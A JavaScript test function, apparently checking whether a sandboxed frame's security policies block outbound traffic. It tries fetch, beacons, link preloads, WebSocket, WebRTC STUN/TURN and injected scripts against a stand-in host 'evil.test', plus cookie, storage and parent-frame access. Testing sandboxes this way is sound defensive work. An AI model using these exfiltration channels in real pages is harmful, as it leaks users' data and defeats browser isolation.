async ([evil, trap, portal]) => {
  // As if the host of software had a hole: this runs in the frame's document, where only the policies are left.
  const told = {};
  const tried = async (name, act) => { try { told[name] = `DONE ${await act()}`; } catch (error) { told[name] = error.name; } };
  const put = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
  await tried("fetch", () => fetch(`${evil}/fetch`, { mode: "no-cors" }));
  await tried("portal", () => fetch(`${portal}/me`, { credentials: "include", mode: "no-cors" }));
  await tried("cookie", () => document.cookie);
  await tried("storage", () => localStorage.length);
  await tried("database", () => indexedDB.open("x"));
  await tried("parent", () => parent.document.title);
  await tried("top", () => { top.location = `${evil}/top`; });
  await tried("service worker", () => navigator.serviceWorker.register("/x"));
  await tried("opened", () => { if (open(`${evil}/open`) === null) throw new Error(); });
  navigator.sendBeacon(`${evil}/beacon`, "x");
  alert("x");
  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "prerender", "stylesheet", "icon"])
    put("link", { rel, href: `http://evil.test:${rel === "preconnect" ? trap : new URL(evil).port}/${rel}`, as: "script" });
  put("script", { textContent: `fetch("${evil}/inline")` });
  put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [`${evil}/rules`] }] }) });
  for (const [name, more] of [["img", {}], ["iframe", {}], ["video", {}], ["embed", {}], ["script", {}]]) put(name, { src: `${evil}/${name}`, ...more });
  put("iframe", { srcdoc: `<script>fetch("${evil}/srcdoc")</` + "script>" });
  put("object", { data: `${evil}/object` });
  new WebSocket(`${evil.replace("http", "ws")}/ws`).onerror = () => {};
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:evil.test:${trap}` }, { urls: `turn:evil.test:${trap}?transport=tcp`, username: "a", credential: "b" }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  } catch (error) { told.peer = error.name; }
  return told;
}
